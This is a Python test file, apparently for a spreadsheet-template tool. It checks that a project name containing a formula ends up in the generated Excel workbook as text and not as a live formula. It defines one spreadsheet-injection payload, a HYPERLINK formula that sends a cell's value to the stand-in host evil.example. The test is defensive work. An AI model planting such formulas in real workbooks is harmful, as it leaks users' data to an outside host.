"""Hostile text and hostile workbooks: the template holds no formula, import refuses bombs."""

from __future__ import annotations

from pathlib import Path

import openpyxl

from conftest import invoke

FORMULA = '=HYPERLINK("http://evil.example/?leak="&B4,"点击")'


def _rename_project(root: Path, project: str, name: str) -> None:
    path = root / f"submissions/projects/{project}/project.yaml"
    text = path.read_text(encoding="utf-8")
    path.write_text(text.replace("name: 测试企业项目", f"name: '{name}'"), encoding="utf-8")


def test_template_with_a_formula_as_project_name_has_no_formula_cell(base_tree, tmp_path):
    _rename_project(base_tree, "beta-firm", FORMULA)
    out = tmp_path / "b.xlsx"
    result = invoke("template", "beta-firm", "2021-Q2", "-o", str(out), "--root", str(base_tree))
    assert result.returncode == 0, result.stderr
    book = openpyxl.load_workbook(out)
    formulas = [
        f"{ws.title}!{c.coordinate}"
        for ws in book.worksheets
        for row in ws.iter_rows()
        for c in row
        if c.data_type == "f"
    ]
    assert formulas == []
    texts = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row]
    assert any(isinstance(v, str) and FORMULA in v for v in texts)  # shown, as text
